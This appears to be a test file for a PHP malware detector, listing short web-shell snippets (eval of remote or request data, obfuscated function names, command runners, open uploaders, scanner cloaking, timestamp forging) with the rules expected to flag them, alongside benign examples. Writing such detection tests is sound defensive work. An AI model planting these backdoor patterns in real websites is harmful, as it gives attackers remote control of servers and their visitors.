@@ -1,0 +1,103 @@
+import { describe, expect, it } from 'vitest';
+import { Interpreter } from '../../../../src/matching/php/interpreter.ts';
+import { judge } from '../../../../src/matching/php/judge.ts';
+
+const OPEN = ['<', '?php '].join('');
+const RUN = ['ev', 'al'].join('');
+const POST = ['$_P', 'OST'].join('');
+const GET = ['$_G', 'ET'].join('');
+
+function rules(code: string): string[] {
+  return judge(new Interpreter().read(OPEN + code)).map((verdict) => `${verdict.rule} ${verdict.severity}`);
+}
+
+describe('what planted scripts do', () => {
+  it.each([
+    ['run a remote answer', `${RUN}(file_get_contents('http://a.example.test/x'));`, 'php.remote-to-code critical'],
+    ['run a header', 'passthru(getenv("HTTP_ACCEPT_LANGUAGE"));', 'php.request-to-command critical'],
+    [
+      'run an encoded text',
+      `${RUN}(gzinflate(base64_decode('AAAA')).base64_decode('ZWNobyAxOw=='));`,
+      'php.hidden-code high',
+    ],
+    ['spell a name by XOR', `$f = ('!' ^ '@') . ('3' ^ '@') . 'sert'; $f(1);`, 'php.hidden-name high'],
+    [
+      'jump about',
+      `goto a; b: ${RUN}(${POST}[1]); goto c; a: if (!${POST}) { goto c; } goto b; c: echo 1;`,
+      'php.request-to-code critical',
+    ],
+    [
+      'wait in a destructor',
+      `class A { public $x; function __destruct() { ${RUN}($this->x); } } $a = new A; $a->x = ${POST}['x'];`,
+      'php.request-to-code critical',
+    ],
+    [
+      'call through reflection',
+      `$r = new ReflectionFunction('system'); $r->invoke(${GET}['a']);`,
+      'php.request-to-command critical',
+    ],
+    [
+      'use a filter as a callback',
+      `filter_var(${POST}['a'], FILTER_CALLBACK, array('options' => 'assert'));`,
+      'php.callback-to-code high',
+    ],
+    ['make variables of the request', `extract(${POST}); $a($b);`, 'php.request-chooses-call critical'],
+    [
+      'store any upload',
+      `move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']);`,
+      'php.open-upload high',
+    ],
+    ['write any file', `$h = fopen(${POST}['p'], 'w'); fwrite($h, ${POST}['c']);`, 'php.request-to-file high'],
+    ['mail anything to anybody', `mail(${POST}['to'], ${POST}['s'], ${POST}['m']);`, 'php.open-mailer high'],
+    [
+      'show what another server says of the visitor',
+      `echo file_get_contents('http://a.example.test/?h=' . $_SERVER['HTTP_HOST']);`,
+      'php.remote-output high',
+    ],
+    [
+      'forge times',
+      `$t = filemtime('index.php'); file_put_contents('a.txt', 'x'); touch('index.php', $t);`,
+      'php.forges-times high',
+    ],
+    [
+      'turn scanners away',
+      `foreach (array('phishtank', 'netcraft', 'a', 'b', 'c') as $w) { if (strpos($_SERVER['HTTP_USER_AGENT'], $w)) die; }`,
+      'php.turns-away-scanners high',
+    ],
+    [
+      'try every runner',
+      `function r($c) { if (function_exists('system')) system($c); elseif (1 > $x) exec($c); else passthru($c); } r($argv[1]);`,
+      'php.every-runner high',
+    ],
+    ['include a picture', `include 'images/logo.ico';`, 'php.odd-include high'],
+    ['plant and run', `file_put_contents('c.html', ${GET}['x']); require 'c.html';`, 'php.plants-and-runs high'],
+    [
+      'work on any file',
+      `if (${GET}['d']) unlink(${GET}['d']); echo file_get_contents(${GET}['f']); $h = opendir(${GET}['x']);`,
+      'php.file-manager high',
+    ],
+  ])('%s', (_, code, rule) => {
+    expect(rules(code)).toContain(rule);
+  });
+});
+
+describe('what honest scripts do', () => {
+  it.each([
+    ['mail a contact form to themselves', `mail('info@example.test', 'Contact', ${POST}['message']);`],
+    [
+      'run a template',
+      `function render($file, $vars) { extract($vars); ob_start(); include $file; return ob_get_clean(); }`,
+    ],
+    ['call an allowed action', `$actions = array('list' => 'show_list'); $f = $actions[${GET}['a']]; $f();`],
+    ['quote an argument', `exec('convert ' . escapeshellarg(${GET}['f']));`],
+    [
+      'check before they store',
+      `if (current_user_can('upload')) move_uploaded_file($_FILES['f']['tmp_name'], 'x/' . $_FILES['f']['name']);`,
+    ],
+    ['assert a fact', 'assert($a instanceof B);'],
+    ['unpack an icon', "header('Content-Type: image/gif'); echo base64_decode('R0lGODlhAQABAAAAACw=');"],
+    ['fetch a feed', "$feed = simplexml_load_string(file_get_contents('https://example.test/feed'));"],
+  ])('%s', (_, code) => {
+    expect(rules(code).filter((rule) => !rule.endsWith(' low') && !rule.endsWith(' medium'))).toEqual([]);
+  });
+});
